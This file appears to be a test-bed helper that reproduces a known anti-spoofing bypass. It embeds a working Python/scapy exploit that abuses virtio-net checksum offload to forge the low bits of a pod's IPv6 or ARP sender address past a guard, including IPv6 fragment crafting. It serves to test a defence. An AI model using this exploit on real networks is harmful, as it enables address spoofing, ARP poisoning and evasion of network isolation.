/**
 * The checksum-offload forgery (issue 25, finding 1), as a pod with CAP_NET_RAW can send it: a packet
 * socket with PACKET_VNET_HDR hands the pod's kernel a frame with a virtio-net header that asks for
 * checksum completion (VIRTIO_NET_HDR_F_NEEDS_CSUM) at `csum_start`/`csum_offset`, and these point
 * at the low 16 bits of the pod's own source address (IPv6 source, or ARP sender IP). The frame
 * leaves the pod as CHECKSUM_PARTIAL with its real address, which a guard approves; wherever the
 * checksum is completed later (the node re-fragmenting the packet, a device without transmit
 * checksumming: the VXLAN path, an uplink), the kernel writes the one's complement sum of the bytes
 * from `csum_start` on into that word. A pad word in the region (an IPv6 destination option of a type
 * receivers skip, or the Ethernet trailer after ARP) makes the sum the value the pod wants; for IPv6,
 * the UDP checksum is the one of the forged datagram, so the receiver takes it.
 *
 * With transmit checksumming off on the pod's interface, the pod's own kernel completes the checksum
 * before the frame leaves (validate_xmit_skb): the guard sees the forged word and drops the frame (or,
 * for fragments aimed at the node's reassembled packet, the word lands in the destination address).
 * Decision 32.
 */
import { must } from '../../bed/exec.js';
import { PYTHON } from './ovs/traffic.js';

const FORGE = `
import socket, struct, sys, json
from scapy.all import Ether, IPv6, IPv6ExtHdrDestOpt, HBHOptUnknown, IPv6ExtHdrFragment, UDP, Raw, ARP

SOL_PACKET, PACKET_VNET_HDR, NEEDS_CSUM = 263, 15, 1

def ocsum(data):
    if len(data) % 2:
        data += b'\\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return s

def with_pad(frame, start, pad_at, target):
    """The frame with the word at pad_at set so the kernel's checksum of frame[start:] is target."""
    region = frame[start:pad_at] + b'\\0\\0' + frame[pad_at + 2:]
    want = ~target & 0xffff
    pad = want + (~ocsum(region) & 0xffff)
    while pad >> 16:
        pad = (pad & 0xffff) + (pad >> 16)
    return frame[:pad_at] + struct.pack('!H', pad) + frame[pad_at + 2:]

def send(sock, frame, csum_start, csum_offset):
    sock.send(struct.pack('<BBHHHH', NEEDS_CSUM, 0, 0, 0, csum_start, csum_offset) + frame)

a = json.loads(sys.argv[1])
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
sock.bind((a['iface'], 0))
eth = Ether(src=a['mac'], dst=a['dstMac'])
if a['kind'] == 'arp':
    real = socket.inet_aton(a['real']); forged = socket.inet_aton(a['forged'])
    assert real[:2] == forged[:2], 'only the low 16 bits can be forged'
    frame = bytes(Ether(src=a['mac'], dst=a['dstMac'])/ARP(op=a.get('op', 1), hwsrc=a['mac'], psrc=a['real'], hwdst='ff:ff:ff:ff:ff:ff', pdst=a['target'])/Raw(b'\\0' * 18))
    w = 14 + 14 + 2  # the low word of the ARP sender IP
    frame = with_pad(frame, w, len(frame) - 2, struct.unpack('!H', forged[2:])[0])
    for _ in range(a.get('count', 3)):
        send(sock, frame, w, 0)
else:
  for forged_ip in (a['forged'] if isinstance(a['forged'], list) else [a['forged']]):  # one scapy start
      real = socket.inet_pton(socket.AF_INET6, a['real']); forged = socket.inet_pton(socket.AF_INET6, forged_ip)
      assert real[:14] == forged[:14], 'only the low 16 bits can be forged'
      opt = IPv6ExtHdrDestOpt(nh=17, options=[HBHOptUnknown(otype=0x1e, optdata=b'\\0\\0\\0\\0')])
      body = UDP(sport=a.get('sport', 4444), dport=a['port'])/Raw(a['payload'].encode() * a.get('repeat', 1))
      final = IPv6(src=forged_ip, dst=a['dst'], nh=60, hlim=64)/opt/body
      udp_csum = IPv6(bytes(final))[UDP].chksum
      body[UDP].chksum = udp_csum
      sent = IPv6(src=a['real'], dst=a['dst'], nh=60, hlim=64)/opt/body
      frame = bytes(eth/sent)
      w = 14 + 8 + 14  # the low word of the IPv6 source
      pad_at = 14 + 40 + 4  # the unknown option's data (ignored by receivers, outside the UDP checksum)
      frame = with_pad(frame, w, pad_at, struct.unpack('!H', forged[14:])[0])
      frag = a.get('frag', 0)
      if not frag:
          for _ in range(a.get('count', 3)):
              send(sock, frame, w, 0)
      else:
          # Fragments, as the pod's own kernel would cut them; the node reassembles them (conntrack) with
          # its header moved 8 bytes on (the fragment header removed), then fragments again.
          hdr = frame[:14 + 40]
          rest = frame[14 + 40:]
          for n in range(a.get('count', 3)):
              ident = 0x5000 + 64 * forged[15] + n  # one datagram per identification
              pieces = []
              for off in range(0, len(rest), frag):
                  chunk = rest[off:off + frag]
                  more = 1 if off + frag < len(rest) else 0
                  ip = bytearray(hdr)
                  ip[14 + 6] = 44
                  struct.pack_into('!H', ip, 14 + 4, 8 + len(chunk))
                  fh = struct.pack('!BBHI', 60, 0, (off // 8) << 3 | more, ident)
                  pieces.append(bytes(ip) + fh + chunk)
              for p in reversed(pieces):
                  send(sock, p, w + 8, 0)
print('sent', flush=True)
`;

/** What the forged frames carry. */
export type ForgeSpec =
  | {
      kind: 'udp6';
      /** The pod's interface, its MAC, and the next hop's MAC (the gateway's, or the peer's). */
      iface: string;
      mac: string;
      dstMac: string;
      /** The pod's own address (what the guard sees) and the ones the receiver is to see. */
      real: string;
      forged: string | string[];
      dst: string;
      port: number;
      payload: string;
      /** The payload repeated: a datagram larger than the MTU with `frag`. */
      repeat?: number;
      /** Sent as IPv6 fragments of this many payload bytes (a multiple of 8), for the node to reassemble. */
      frag?: number;
      count?: number;
    }
  | {
      kind: 'arp';
      iface: string;
      mac: string;
      dstMac: string;
      real: string;
      forged: string;
      /** The ARP target IP (a gratuitous ARP names the forged sender IP here). */
      target: string;
      op?: 1 | 2;
      count?: number;
    };

/** Sends the forged frames from the pod namespace `ns` (python3-scapy and a packet socket). */
export async function sendChecksumForgery(ns: string, spec: ForgeSpec): Promise<void> {
  await must('ip', ['netns', 'exec', ns, PYTHON, '-c', FORGE, JSON.stringify(spec)]);
}
